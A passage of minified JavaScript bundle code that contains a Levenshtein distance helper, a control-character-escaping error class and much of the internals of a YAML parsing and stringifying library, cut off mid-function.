var xk=Object.create;var Ro=Object.defineProperty;var $k=Object.getOwnPropertyDescriptor;var _k=Object.getOwnPropertyNames;var Sk=Object.getPrototypeOf,Ck=Object.prototype.hasOwnProperty;var Ue=(t,e,s)=>()=>{if(s)throw s[0];try{return t&&(e=t(t=0)),e}catch(r){throw s=[r],r}};var L=(t,e)=>()=>{try{return e||t((e={exports:{}}).exports,e),e.exports}catch(s){throw e=0,s}},il=(t,e)=>{for(var s in e)Ro(t,s,{get:e[s],enumerable:!0})},Gu=(t,e,s,r)=>{
if(e&&typeof e=="object"||typeof e=="function")for(let n of _k(e))!Ck.call(t,n)&&n!==s&&Ro(t,n,{get:()=>e[n],enumerable:!(r=$k(e,n))||r.enumerable});return t};var al=(t,e,s)=>(s=t!=null?xk(Sk(t)):{},Gu(e||!t||!t.__esModule?Ro(s,"default",{value:t,enumerable:!0}):s,t)),Ek=t=>Gu(Ro({},"__esModule",{value:!0}),t);var _e,Ct=Ue(()=>{"use strict";_e=t=>Object.fromEntries(Object.entries(t).filter(([,e])=>e!==void 0))});var Mt,pr,fr=Ue(()=>{"use strict";Mt={catastrophic:0,severe:1,risky:2},pr=["workspace","strict"]});var sg=L(en=>{"use strict";en.__esModule=!0;en.distance=en.closest=void 0;var vs=new Uint32Array(65536),SS=function(t,e){for(var s=t.length,r=e.length,n=1<<s-1,
o=-1,i=0,a=s,l=s;l--;)vs[t.charCodeAt(l)]|=1<<l;for(l=0;l<r;l++){var c=vs[e.charCodeAt(l)],d=c|i;c|=(c&o)+o^o,i|=~(c|o),o&=c,i&n&&a++,o&n&&a--,i=i<<1|1,o=o<<1|~(d|
i),i&=d}for(l=s;l--;)vs[t.charCodeAt(l)]=0;return a},CS=function(t,e){for(var s=e.length,r=t.length,n=[],o=[],i=Math.ceil(s/32),a=Math.ceil(r/32),l=0;l<i;l++)o[l]=
-1,n[l]=0;for(var c=0;c<a-1;c++){for(var d=0,u=-1,p=c*32,f=Math.min(32,r)+p,m=p;m<f;m++)vs[t.charCodeAt(m)]|=1<<m;for(var l=0;l<s;l++){var h=vs[e.charCodeAt(l)],
g=o[l/32|0]>>>l&1,y=n[l/32|0]>>>l&1,x=h|d,$=((h|y)&u)+u^u|h|y,C=d|~($|u),_=u&$;C>>>31^g&&(o[l/32|0]^=1<<l),_>>>31^y&&(n[l/32|0]^=1<<l),C=C<<1|g,_=_<<1|y,u=_|~(x|
C),d=C&x}for(var m=p;m<f;m++)vs[t.charCodeAt(m)]=0}for(var T=0,q=-1,P=c*32,N=Math.min(32,r-P)+P,m=P;m<N;m++)vs[t.charCodeAt(m)]|=1<<m;for(var D=r,l=0;l<s;l++){var h=vs[e.
charCodeAt(l)],g=o[l/32|0]>>>l&1,y=n[l/32|0]>>>l&1,x=h|T,$=((h|y)&q)+q^q|h|y,C=T|~($|q),_=q&$;D+=C>>>r-1&1,D-=_>>>r-1&1,C>>>31^g&&(o[l/32|0]^=1<<l),_>>>31^y&&(n[l/
32|0]^=1<<l),C=C<<1|g,_=_<<1|y,q=_|~(x|C),T=C&x}for(var m=P;m<N;m++)vs[t.charCodeAt(m)]=0;return D},tg=function(t,e){if(t.length<e.length){var s=e;e=t,t=s}return e.
length===0?t.length:t.length<=32?SS(t,e):CS(t,e)};en.distance=tg;var ES=function(t,e){for(var s=1/0,r=0,n=0;n<e.length;n++){var o=tg(t,e[n]);o<s&&(s=o,r=n)}return e[r]};
en.closest=ES});function wr(t){return t.replace(TS,e=>{let s=e.codePointAt(0);return e===`
`?"\\n":e==="\r"?"\\r":e==="	"?"\\t":s<256?`\\x${s.toString(16).padStart(2,"0")}`:s>65535?`\\u{${s.toString(16)}}`:`\\u${s.toString(16).padStart(4,"0")}`})}var AS,
TS,st,tn=Ue(()=>{"use strict";AS=al(sg(),1),TS=/[\x00-\x1f\x7f-\x9f\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ud800-\udfff\ufeff\uffa0\ufff9-\ufffb\u{e0000}-\u{e0fff}]/gu;
st=class extends Error{name="UserError";remedy;lines;constructor(e,s){let r=(typeof e=="string"?[e]:e).map(wr);super(r.join(`
`)),this.lines=r,this.remedy=s===void 0?void 0:wr(s)}get text(){return this.remedy?`${this.message}
  ${this.remedy}`:this.message}}});var se=L(Ye=>{"use strict";var ld=Symbol.for("yaml.alias"),Ig=Symbol.for("yaml.document"),ia=Symbol.for("yaml.map"),qg=Symbol.for("yaml.pair"),cd=Symbol.for("ya\
ml.scalar"),aa=Symbol.for("yaml.seq"),xs=Symbol.for("yaml.node.type"),g1=t=>!!t&&typeof t=="object"&&t[xs]===ld,b1=t=>!!t&&typeof t=="object"&&t[xs]===Ig,y1=t=>!!t&&
typeof t=="object"&&t[xs]===ia,w1=t=>!!t&&typeof t=="object"&&t[xs]===qg,Og=t=>!!t&&typeof t=="object"&&t[xs]===cd,k1=t=>!!t&&typeof t=="object"&&t[xs]===aa;function Ng(t){
if(t&&typeof t=="object")switch(t[xs]){case ia:case aa:return!0}return!1}function v1(t){if(t&&typeof t=="object")switch(t[xs]){case ld:case ia:case cd:case aa:return!0}
return!1}var x1=t=>(Og(t)||Ng(t))&&!!t.anchor;Ye.ALIAS=ld;Ye.DOC=Ig;Ye.MAP=ia;Ye.NODE_TYPE=xs;Ye.PAIR=qg;Ye.SCALAR=cd;Ye.SEQ=aa;Ye.hasAnchor=x1;Ye.isAlias=g1;Ye.
isCollection=Ng;Ye.isDocument=b1;Ye.isMap=y1;Ye.isNode=v1;Ye.isPair=w1;Ye.isScalar=Og;Ye.isSeq=k1});var Qn=L(dd=>{"use strict";var Ne=se(),ct=Symbol("break visit"),Lg=Symbol("skip children"),ts=Symbol("remove node");function la(t,e){let s=Dg(e);Ne.isDocument(t)?
sn(null,t.contents,s,Object.freeze([t]))===ts&&(t.contents=null):sn(null,t,s,Object.freeze([]))}la.BREAK=ct;la.SKIP=Lg;la.REMOVE=ts;function sn(t,e,s,r){let n=jg(
t,e,s,r);if(Ne.isNode(n)||Ne.isPair(n))return Wg(t,r,n),sn(t,n,s,r);if(typeof n!="symbol"){if(Ne.isCollection(e)){r=Object.freeze(r.concat(e));for(let o=0;o<e.items.
length;++o){let i=sn(o,e.items[o],s,r);if(typeof i=="number")o=i-1;else{if(i===ct)return ct;i===ts&&(e.items.splice(o,1),o-=1)}}}else if(Ne.isPair(e)){r=Object.
freeze(r.concat(e));let o=sn("key",e.key,s,r);if(o===ct)return ct;o===ts&&(e.key=null);let i=sn("value",e.value,s,r);if(i===ct)return ct;i===ts&&(e.value=null)}}
return n}async function ca(t,e){let s=Dg(e);Ne.isDocument(t)?await rn(null,t.contents,s,Object.freeze([t]))===ts&&(t.contents=null):await rn(null,t,s,Object.freeze(
[]))}ca.BREAK=ct;ca.SKIP=Lg;ca.REMOVE=ts;async function rn(t,e,s,r){let n=await jg(t,e,s,r);if(Ne.isNode(n)||Ne.isPair(n))return Wg(t,r,n),rn(t,n,s,r);if(typeof n!=
"symbol"){if(Ne.isCollection(e)){r=Object.freeze(r.concat(e));for(let o=0;o<e.items.length;++o){let i=await rn(o,e.items[o],s,r);if(typeof i=="number")o=i-1;else{
if(i===ct)return ct;i===ts&&(e.items.splice(o,1),o-=1)}}}else if(Ne.isPair(e)){r=Object.freeze(r.concat(e));let o=await rn("key",e.key,s,r);if(o===ct)return ct;
o===ts&&(e.key=null);let i=await rn("value",e.value,s,r);if(i===ct)return ct;i===ts&&(e.value=null)}}return n}function Dg(t){return typeof t=="object"&&(t.Collection||
t.Node||t.Value)?Object.assign({Alias:t.Node,Map:t.Node,Scalar:t.Node,Seq:t.Node},t.Value&&{Map:t.Value,Scalar:t.Value,Seq:t.Value},t.Collection&&{Map:t.Collection,
Seq:t.Collection},t):t}function jg(t,e,s,r){if(typeof s=="function")return s(t,e,r);if(Ne.isMap(e))return s.Map?.(t,e,r);if(Ne.isSeq(e))return s.Seq?.(t,e,r);if(Ne.
isPair(e))return s.Pair?.(t,e,r);if(Ne.isScalar(e))return s.Scalar?.(t,e,r);if(Ne.isAlias(e))return s.Alias?.(t,e,r)}function Wg(t,e,s){let r=e[e.length-1];if(Ne.
isCollection(r))r.items[t]=s;else if(Ne.isPair(r))t==="key"?r.key=s:r.value=s;else if(Ne.isDocument(r))r.contents=s;else{let n=Ne.isAlias(r)?"alias":"scalar";throw new Error(
`Cannot replace node with ${n} parent`)}}dd.visit=la;dd.visitAsync=ca});var ud=L(Fg=>{"use strict";var Mg=se(),$1=Qn(),_1={"!":"%21",",":"%2C","[":"%5B","]":"%5D","{":"%7B","}":"%7D"},S1=t=>t.replace(/[!,[\]{}]/g,e=>_1[e]),Xn=class t{constructor(e,s){
this.docStart=null,this.docEnd=!1,this.yaml=Object.assign({},t.defaultYaml,e),this.tags=Object.assign({},t.defaultTags,s)}clone(){let e=new t(this.yaml,this.tags);
return e.docStart=this.docStart,e}atDocument(){let e=new t(this.yaml,this.tags);switch(this.yaml.version){case"1.1":this.atNextDocument=!0;break;case"1.2":this.
atNextDocument=!1,this.yaml={explicit:t.defaultYaml.explicit,version:"1.2"},this.tags=Object.assign({},t.defaultTags);break}return e}add(e,s){this.atNextDocument&&
(this.yaml={explicit:t.defaultYaml.explicit,version:"1.1"},this.tags=Object.assign({},t.defaultTags),this.atNextDocument=!1);let r=e.trim().split(/[ \t]+/),n=r.
shift();switch(n){case"%TAG":{if(r.length!==2&&(s(0,"%TAG directive should contain exactly two parts"),r.length<2))return!1;let[o,i]=r;return this.tags[o]=i,!0}case"\
%YAML":{if(this.yaml.explicit=!0,r.length!==1)return s(0,"%YAML directive should contain exactly one part"),!1;let[o]=r;if(o==="1.1"||o==="1.2")return this.yaml.
version=o,!0;{let i=/^\d+\.\d+$/.test(o);return s(6,`Unsupported YAML version ${o}`,i),!1}}default:return s(0,`Unknown directive ${n}`,!0),!1}}tagName(e,s){if(e===
"!")return"!";if(e[0]!=="!")return s(`Not a valid tag: ${e}`),null;if(e[1]==="<"){let i=e.slice(2,-1);return i==="!"||i==="!!"?(s(`Verbatim tags aren't resolved\
, so ${e} is invalid.`),null):(e[e.length-1]!==">"&&s("Verbatim tags must end with a >"),i)}let[,r,n]=e.match(/^(.*!)([^!]*)$/s);n||s(`The ${e} tag has no suffi\
x`);let o=this.tags[r];if(o)try{return o+decodeURIComponent(n)}catch(i){return s(String(i)),null}return r==="!"?e:(s(`Could not resolve tag: ${e}`),null)}tagString(e){
for(let[s,r]of Object.entries(this.tags))if(e.startsWith(r))return s+S1(e.substring(r.length));return e[0]==="!"?e:`!<${e}>`}toString(e){let s=this.yaml.explicit?
[`%YAML ${this.yaml.version||"1.2"}`]:[],r=Object.entries(this.tags),n;if(e&&r.length>0&&Mg.isNode(e.contents)){let o={};$1.visit(e.contents,(i,a)=>{Mg.isNode(a)&&
a.tag&&(o[a.tag]=!0)}),n=Object.keys(o)}else n=[];for(let[o,i]of r)o==="!!"&&i==="tag:yaml.org,2002:"||(!e||n.some(a=>a.startsWith(i)))&&s.push(`%TAG ${o} ${i}`);
return s.join(`
`)}};Xn.defaultYaml={explicit:!1,version:"1.2"};Xn.defaultTags={"!!":"tag:yaml.org,2002:"};Fg.Directives=Xn});var da=L(Jn=>{"use strict";var Ug=se(),C1=Qn();function E1(t){if(/[\x00-\x19\s,[\]{}]/.test(t)){let s=`Anchor must not contain whitespace or control characters:\
 ${JSON.stringify(t)}`;throw new Error(s)}return!0}function Vg(t){let e=new Set;return C1.visit(t,{Value(s,r){r.anchor&&e.add(r.anchor)}}),e}function Hg(t,e){for(let s=1;;++s){
let r=`${t}${s}`;if(!e.has(r))return r}}function A1(t,e){let s=[],r=new Map,n=null;return{onAnchor:o=>{s.push(o),n??(n=Vg(t));let i=Hg(e,n);return n.add(i),i},setAnchors:()=>{
for(let o of s){let i=r.get(o);if(typeof i=="object"&&i.anchor&&(Ug.isScalar(i.node)||Ug.isCollection(i.node)))i.node.anchor=i.anchor;else{let a=new Error("Fail\
ed to resolve repeated object (this should not happen)");throw a.source=o,a}}},sourceObjects:r}}Jn.anchorIsValid=E1;Jn.anchorNames=Vg;Jn.createNodeAnchors=A1;Jn.
findNewAnchor=Hg});var pd=L(Bg=>{"use strict";function Zn(t,e,s,r){if(r&&typeof r=="object")if(Array.isArray(r))for(let n=0,o=r.length;n<o;++n){let i=r[n],a=Zn(t,r,String(n),i);a===
void 0?delete r[n]:a!==i&&(r[n]=a)}else if(r instanceof Map)for(let n of Array.from(r.keys())){let o=r.get(n),i=Zn(t,r,n,o);i===void 0?r.delete(n):i!==o&&r.set(
n,i)}else if(r instanceof Set)for(let n of Array.from(r)){let o=Zn(t,r,n,n);o===void 0?r.delete(n):o!==n&&(r.delete(n),r.add(o))}else for(let[n,o]of Object.entries(
r)){let i=Zn(t,r,n,o);i===void 0?delete r[n]:i!==o&&(r[n]=i)}return t.call(e,s,r)}Bg.applyReviver=Zn});var Ms=L(Gg=>{"use strict";var T1=se();function zg(t,e,s){if(Array.isArray(t))return t.map((r,n)=>zg(r,String(n),s));if(t&&typeof t.toJSON=="function"){if(!s||!T1.
hasAnchor(t))return t.toJSON(e,s);let r={aliasCount:0,count:1,res:void 0};s.anchors.set(t,r),s.onCreate=o=>{r.res=o,delete s.onCreate};let n=t.toJSON(e,s);return s.
onCreate&&s.onCreate(n),n}return typeof t=="bigint"&&!s?.keep?Number(t):t}Gg.toJS=zg});var ua=L(Yg=>{"use strict";var P1=pd(),Kg=se(),R1=Ms(),fd=class{constructor(e){Object.defineProperty(this,Kg.NODE_TYPE,{value:e})}clone(){let e=Object.create(Object.
getPrototypeOf(this),Object.getOwnPropertyDescriptors(this));return this.range&&(e.range=this.range.slice()),e}toJS(e,{mapAsMap:s,maxAliasCount:r,onAnchor:n,reviver:o}={}){
if(!Kg.isDocument(e))throw new TypeError("A document argument is required");let i={anchors:new Map,doc:e,keep:!0,mapAsMap:s===!0,mapKeyWarned:!1,maxAliasCount:typeof r==
"number"?r:100},a=R1.toJS(this,"",i);if(typeof n=="function")for(let{count:l,res:c}of i.anchors.values())n(c,l);return typeof o=="function"?P1.applyReviver(o,{"":a},
"",a):a}};Yg.NodeBase=fd});var eo=L(Qg=>{"use strict";var I1=da(),q1=Qn(),nn=se(),O1=ua(),N1=Ms(),md=class extends O1.NodeBase{constructor(e){super(nn.ALIAS),this.source=e,Object.defineProperty(
this,"tag",{set(){throw new Error("Alias nodes cannot have tags")}})}resolve(e,s){if(s?.maxAliasCount===0)throw new ReferenceError("Alias resolution is disabled");
let r;s?.aliasResolveCache?r=s.aliasResolveCache:(r=[],q1.visit(e,{Node:(o,i)=>{(nn.isAlias(i)||nn.hasAnchor(i))&&r.push(i)}}),s&&(s.aliasResolveCache=r));let n;
for(let o of r){if(o===this)break;o.anchor===this.source&&(n=o)}if(n&&s){let{anchors:o,doc:i,maxAliasCount:a}=s,l=o.get(n);if(l||(N1.toJS(n,null,s),l=o.get(n)),
l?.res===void 0){let c="This should not happen: Alias anchor was not resolved?";throw new ReferenceError(c)}if(a>=0&&(l.count+=1,l.aliasCount===0&&(l.aliasCount=
pa(i,n,o)),l.count*l.aliasCount>a)){let c="Excessive alias count indicates a resource exhaustion attack";throw new ReferenceError(c)}}return n}toJSON(e,s){if(!s)
return{source:this.source};let r=this.resolve(s.doc,s);if(!r){let n=`Unresolved alias (the anchor must be set before the alias): ${this.source}`;throw new ReferenceError(
n)}return s.anchors.get(r).res}toString(e,s,r){let n=`*${this.source}`;if(e){if(I1.anchorIsValid(this.source),e.options.verifyAliasOrder&&!e.anchors.has(this.source)){
let o=`Unresolved alias (the anchor must be set before the alias): ${this.source}`;throw new Error(o)}if(e.implicitKey)return`${n} `}return n}};function pa(t,e,s){
if(nn.isAlias(e)){let r=e.resolve(t),n=s&&r&&s.get(r);return n?n.count*n.aliasCount:0}else if(nn.isCollection(e)){let r=0;for(let n of e.items){let o=pa(t,n,s);
o>r&&(r=o)}return r}else if(nn.isPair(e)){let r=pa(t,e.key,s),n=pa(t,e.value,s);return Math.max(r,n)}return 1}Qg.Alias=md});var Re=L(hd=>{"use strict";var L1=se(),D1=ua(),j1=Ms(),W1=t=>!t||typeof t!="function"&&typeof t!="object",Fs=class extends D1.NodeBase{constructor(e){super(L1.SCALAR),
this.value=e}toJSON(e,s){return s?.keep?this.value:j1.toJS(this.value,e,s)}toString(){return String(this.value)}};Fs.BLOCK_FOLDED="BLOCK_FOLDED";Fs.BLOCK_LITERAL=
"BLOCK_LITERAL";Fs.PLAIN="PLAIN";Fs.QUOTE_DOUBLE="QUOTE_DOUBLE";Fs.QUOTE_SINGLE="QUOTE_SINGLE";hd.Scalar=Fs;hd.isScalarValue=W1});var to=L(Jg=>{"use strict";var M1=eo(),vr=se(),Xg=Re(),F1="tag:yaml.org,2002:";function U1(t,e,s){if(e){let r=s.filter(o=>o.tag===e),n=r.find(o=>!o.format)??r[0];
if(!n)throw new Error(`Tag ${e} not found`);return n}return s.find(r=>r.identify?.(t)&&!r.format)}function V1(t,e,s){if(vr.isDocument(t)&&(t=t.contents),vr.isNode(
t))return t;if(vr.isPair(t)){let u=s.schema[vr.MAP].createNode?.(s.schema,null,s);return u.items.push(t),u}(t instanceof String||t instanceof Number||t instanceof
Boolean||typeof BigInt<"u"&&t instanceof BigInt)&&(t=t.valueOf());let{aliasDuplicateObjects:r,onAnchor:n,onTagObj:o,schema:i,sourceObjects:a}=s,l;if(r&&t&&typeof t==
"object"){if(l=a.get(t),l)return l.anchor??(l.anchor=n(t)),new M1.Alias(l.anchor);l={anchor:null,node:null},a.set(t,l)}e?.startsWith("!!")&&(e=F1+e.slice(2));let c=U1(
t,e,i.tags);if(!c){if(t&&typeof t.toJSON=="function"&&(t=t.toJSON()),!t||typeof t!="object"){let u=new Xg.Scalar(t);return l&&(l.node=u),u}c=t instanceof Map?i[vr.
MAP]:Symbol.iterator in Object(t)?i[vr.SEQ]:i[vr.MAP]}o&&(o(c),delete s.onTagObj);let d=c?.createNode?c.createNode(s.schema,t,s):typeof c?.nodeClass?.from=="fun\
ction"?c.nodeClass.from(s.schema,t,s):new Xg.Scalar(t);return e?d.tag=e:c.default||(d.tag=c.tag),l&&(l.node=d),d}Jg.createNode=V1});var ma=L(fa=>{"use strict";var H1=to(),ss=se(),B1=ua();function gd(t,e,s){let r=s;for(let n=e.length-1;n>=0;--n){let o=e[n];if(typeof o=="number"&&Number.isInteger(
o)&&o>=0){let i=[];i[o]=r,r=i}else r=new Map([[o,r]])}return H1.createNode(r,void 0,{aliasDuplicateObjects:!1,keepUndefined:!1,onAnchor:()=>{throw new Error("Th\
is should not happen, please report a bug.")},schema:t,sourceObjects:new Map})}var Zg=t=>t==null||typeof t=="object"&&!!t[Symbol.iterator]().next().done,bd=class extends B1.
NodeBase{constructor(e,s){super(e),Object.defineProperty(this,"schema",{value:s,configurable:!0,enumerable:!1,writable:!0})}clone(e){let s=Object.create(Object.
getPrototypeOf(this),Object.getOwnPropertyDescriptors(this));return e&&(s.schema=e),s.items=s.items.map(r=>ss.isNode(r)||ss.isPair(r)?r.clone(e):r),this.range&&
(s.range=this.range.slice()),s}addIn(e,s){if(Zg(e))this.add(s);else{let[r,...n]=e,o=this.get(r,!0);if(ss.isCollection(o))o.addIn(n,s);else if(o===void 0&&this.schema)
this.set(r,gd(this.schema,n,s));else throw new Error(`Expected YAML collection at ${r}. Remaining path: ${n}`)}}deleteIn(e){let[s,...r]=e;if(r.length===0)return this.
delete(s);let n=this.get(s,!0);if(ss.isCollection(n))return n.deleteIn(r);throw new Error(`Expected YAML collection at ${s}. Remaining path: ${r}`)}getIn(e,s){let[
r,...n]=e,o=this.get(r,!0);return n.length===0?!s&&ss.isScalar(o)?o.value:o:ss.isCollection(o)?o.getIn(n,s):void 0}hasAllNullValues(e){return this.items.every(s=>{
if(!ss.isPair(s))return!1;let r=s.value;return r==null||e&&ss.isScalar(r)&&r.value==null&&!r.commentBefore&&!r.comment&&!r.tag})}hasIn(e){let[s,...r]=e;if(r.length===
0)return this.has(s);let n=this.get(s,!0);return ss.isCollection(n)?n.hasIn(r):!1}setIn(e,s){let[r,...n]=e;if(n.length===0)this.set(r,s);else{let o=this.get(r,!0);
if(ss.isCollection(o))o.setIn(n,s);else if(o===void 0&&this.schema)this.set(r,gd(this.schema,n,s));else throw new Error(`Expected YAML collection at ${r}. Remai\
ning path: ${n}`)}}};fa.Collection=bd;fa.collectionFromPath=gd;fa.isEmptyPath=Zg});var so=L(ha=>{"use strict";var z1=t=>t.replace(/^(?!$)(?: $)?/gm,"#");function yd(t,e){return/^\n+$/.test(t)?t.substring(1):e?t.replace(/^(?! *$)/gm,e):t}var G1=(t,e,s)=>t.
endsWith(`
`)?yd(s,e):s.includes(`
`)?`
`+yd(s,e):(t.endsWith(" ")?"":" ")+s;ha.indentComment=yd;ha.lineComment=G1;ha.stringifyComment=z1});var tb=L(ro=>{"use strict";var K1="flow",wd="block",ga="quoted";function Y1(t,e,s="flow",{indentAtStart:r,lineWidth:n=80,minContentWidth:o=20,onFold:i,onOverflow:a}={}){
if(!n||n<0)return t;n<o&&(o=0);let l=Math.max(1+o,1+n-e.length);if(t.length<=l)return t;let c=[],d={},u=n-e.length;typeof r=="number"&&(r>n-Math.max(2,o)?c.push(
0):u=n-r);let p,f,m=!1,h=-1,g=-1,y=-1;s===wd&&(h=eb(t,h,e.length),h!==-1&&(u=h+l));for(let $;$=t[h+=1];){if(s===ga&&$==="\\"){switch(g=h,t[h+1]){case"x":h+=3;break;case"\
u":h+=5;break;case"U":h+=9;break;default:h+=1}y=h}if($===`
`)s===wd&&(h=eb(t,h,e.length)),u=h+e.length+l,p=void 0;else{if($===" "&&f&&f!==" "&&f!==`
`&&f!=="	"){let C=t[h+1];C&&C!==" "&&C!==`
`&&C!=="	"&&(p=h)}if(h>=u)if(p)c.push(p),u=p+l,p=void 0;else if(s===ga){for(;f===" "||f==="	";)f=$,$=t[h+=1],m=!0;let C=h>y+1?h-2:g-1;if(d[C])return t;c.push(C),
d[C]=!0,u=C+l,p=void 0}else m=!0}f=$}if(m&&a&&a(),c.length===0)return t;i&&i();let x=t.slice(0,c[0]);for(let $=0;$<c.length;++$){let C=c[$],_=c[$+1]||t.length;C===
0?x=`
${e}${t.slice(0,_)}`:(s===ga&&d[C]&&(x+=`${t[C]}\\`),x+=`
${e}${t.slice(C+1,_)}`)}return x}function eb(t,e,s){let r=e,n=e+1,o=t[n];for(;o===" "||o==="	";)if(e<n+s)o=t[++e];else{do o=t[++e];while(o&&o!==`
`);r=e,n=e+1,o=t[n]}return r}ro.FOLD_BLOCK=wd;ro.FOLD_FLOW=K1;ro.FOLD_QUOTED=ga;ro.foldFlowLines=Y1});var oo=L(sb=>{"use strict";var qt=Re(),Us=tb(),ya=(t,e)=>({indentAtStart:e?t.indent.length:t.indentAtStart,lineWidth:t.options.lineWidth,minContentWidth:t.options.
minContentWidth}),wa=t=>/^(%|---|\.\.\.)/m.test(t);function Q1(t,e,s){if(!e||e<0)return!1;let r=e-s,n=t.length;if(n<=r)return!1;for(let o=0,i=0;o<n;++o)if(t[o]===
`
`){if(o-i>r)return!0;if(i=o+1,n-i<=r)return!1}return!0}function no(t,e){let s=JSON.stringify(t);if(e.options.doubleQuotedAsJSON)return s;let{implicitKey:r}=e,n=e.
options.doubleQuotedMinMultiLineLength,o=e.indent||(wa(t)?"  ":""),i="",a=0;for(let l=0,c=s[l];c;c=s[++l])if(c===" "&&s[l+1]==="\\"&&s[l+2]==="n"&&(i+=s.slice(a,
l)+"\\ ",l+=1,a=l,c="\\"),c==="\\")switch(s[l+1]){case"u":{i+=s.slice(a,l);let d=s.substr(l+2,4);switch(d){case"0000":i+="\\0";break;case"0007":i+="\\a";break;case"\
000b":i+="\\v";break;case"001b":i+="\\e";break;case"0085":i+="\\N";break;case"00a0":i+="\\_";break;case"2028":i+="\\L";break;case"2029":i+="\\P";break;default:d.
substr(0,2)==="00"?i+="\\x"+d.substr(2):i+=s.substr(l,6)}l+=5,a=l+1}break;case"n":if(r||s[l+2]==='"'||s.length<n)l+=1;else{for(i+=s.slice(a,l)+`

`;s[l+2]==="\\"&&s[l+3]==="n"&&s[l+4]!=='"';)i+=`
`,l+=2;i+=o,s[l+2]===" "&&(i+="\\"),l+=1,a=l+1}break;default:l+=1}return i=a?i+s.slice(a):s,r?i:Us.foldFlowLines(i,o,Us.FOLD_QUOTED,ya(e,!1))}function kd(t,e){if(e.
options.singleQuote===!1||e.implicitKey&&t.includes(`
`)||/[ \t]\n|\n[ \t]/.test(t))return no(t,e);let s=e.indent||(wa(t)?"  ":""),r="'"+t.replace(/'/g,"''").replace(/\n+/g,`$&
${s}`)+"'";return e.implicitKey?r:Us.foldFlowLines(r,s,Us.FOLD_FLOW,ya(e,!1))}function on(t,e){let{singleQuote:s}=e.options,r;if(s===!1)r=no;else{let n=t.includes(
'"'),o=t.includes("'");n&&!o?r=kd:o&&!n?r=no:r=s?kd:no}return r(t,e)}var vd;try{vd=new RegExp(`(^|(?<!
))
+(?!
|$)`,"g")}catch{vd=/\n+(?!\n|$)/g}function ba({comment:t,type:e,value:s},r,n,o){let{blockQuote:i,commentString:a,lineWidth:l}=r.options;if(!i||/\n[\t ]+$/.test(
s))return on(s,r);let c=r.indent||(r.forceBlockIndent||wa(s)?"  ":""),d=i==="literal"?!0:i==="folded"||e===qt.Scalar.BLOCK_FOLDED?!1:e===qt.Scalar.BLOCK_LITERAL?
!0:!Q1(s,l,c.length);if(!s)return d?`|
`:`>
`;let u,p;for(p=s.length;p>0;--p){let _=s[p-1];if(_!==`
`&&_!=="	"&&_!==" ")break}let f=s.substring(p),m=f.indexOf(`
`);m===-1?u="-":s===f||m!==f.length-1?(u="+",o&&o()):u="",f&&(s=s.slice(0,-f.length),f[f.length-1]===`
`&&(f=f.slice(0,-1)),f=f.replace(vd,`$&${c}`));let h=!1,g,y=-1;for(g=0;g<s.length;++g){let _=s[g];if(_===" ")h=!0;else if(_===`
`)y=g;else break}let x=s.substring(0,y<g?y+1:g);x&&(s=s.substring(x.length),x=x.replace(/\n+/g,`$&${c}`));let C=(h?c?"2":"1":"")+u;if(t&&(C+=" "+a(t.replace(/ ?[\r\n]+/g,
" ")),n&&n()),!d){let _=s.replace(/\n+/g,`
$&`).replace(/(?:^|\n)([\t ].*)(?:([\n\t ]*)\n(?![\n\t ]))?/g,"$1$2").replace(/\n+/g,`$&${c}`),T=!1,q=ya(r,!0);i!=="folded"&&e!==qt.Scalar.BLOCK_FOLDED&&(q.onOverflow=
()=>{T=!0});let P=Us.foldFlowLines(`${x}${_}${f}`,c,Us.FOLD_BLOCK,q);if(!T)return`>${C}
${c}${P}`}return s=s.replace(/\n+/g,`$&${c}`),`|${C}
${c}${x}${s}${f}`}function X1(t,e,s,r){let{type:n,value:o}=t,{actualString:i,implicitKey:a,indent:l,indentStep:c,inFlow:d}=e;if(a&&o.includes(`
`)||d&&/[[\]{},]/.test(o))return on(o,e);if(/^[\n\t ,[\]{}#&*!|>'"%@`]|^[?-]$|^[?-][ \t]|[\n:][ \t]|[ \t]\n|[\n\t ]#|[\n\t :]$/.test(o))return a||d||!o.includes(
`
`)?on(o,e):ba(t,e,s,r);if(!a&&!d&&n!==qt.Scalar.PLAIN&&o.includes(`
`))return ba(t,e,s,r);if(wa(o)){if(l==="")return e.forceBlockIndent=!0,ba(t,e,s,r);if(a&&l===c)return on(o,e)}let u=o.replace(/\n+/g,`$&
${l}`);if(i){let p=h=>h.default&&h.tag!=="tag:yaml.org,2002:str"&&h.test?.test(u),{compat:f,tags:m}=e.doc.schema;if(m.some(p)||f?.some(p))return on(o,e)}return a?
u:Us.foldFlowLines(u,l,Us.FOLD_FLOW,ya(e,!1))}function J1(t,e,s,r){let{implicitKey:n,inFlow:o}=e,i=typeof t.value=="string"?t:Object.assign({},t,{value:String(t.
value)}),{type:a}=t;a!==qt.Scalar.QUOTE_DOUBLE&&/[\x00-\x08\x0b-\x1f\x7f-\x9f\u{D800}-\u{DFFF}]/u.test(i.value)&&(a=qt.Scalar.QUOTE_DOUBLE);let l=d=>{switch(d){case qt.
Scalar.BLOCK_FOLDED:case qt.Scalar.BLOCK_LITERAL:return n||o?on(i.value,e):ba(i,e,s,r);case qt.Scalar.QUOTE_DOUBLE:return no(i.value,e);case qt.Scalar.QUOTE_SINGLE:
return kd(i.value,e);case qt.Scalar.PLAIN:return X1(i,e,s,r);default:return null}},c=l(a);if(c===null){let{defaultKeyType:d,defaultStringType:u}=e.options,p=n&&
d||u;if(c=l(p),c===null)throw new Error(`Unsupported default string type ${p}`)}return c}sb.stringifyString=J1});var io=L(xd=>{"use strict";var Z1=da(),Vs=se(),eC=so(),tC=oo();function sC(t,e){let s=Object.assign({blockQuote:!0,commentString:eC.stringifyComment,defaultKeyType:null,
defaultStringType:"PLAIN",directives:null,doubleQuotedAsJSON:!1,doubleQuotedMinMultiLineLength:40,falseStr:"false",flowCollectionPadding:!0,indentSeq:!0,lineWidth:80,
minContentWidth:20,nullStr:"null",simpleKeys:!1,singleQuote:null,trailingComma:!1,trueStr:"true",verifyAliasOrder:!0},t.schema.toStringOptions,e),r;switch(s.collectionStyle){case"\
block":r=!1;break;case"flow":r=!0;break;default:r=null}return{anchors:new Set,doc:t,flowCollectionPadding:s.flowCollectionPadding?" ":"",indent:"",indentStep:typeof s.
indent=="number"?" ".repeat(s.indent):"  ",inFlow:r,options:s}}function rC(t,e){if(e.tag){let n=t.filter(o=>o.tag===e.tag);if(n.length>0)return n.find(o=>o.format===
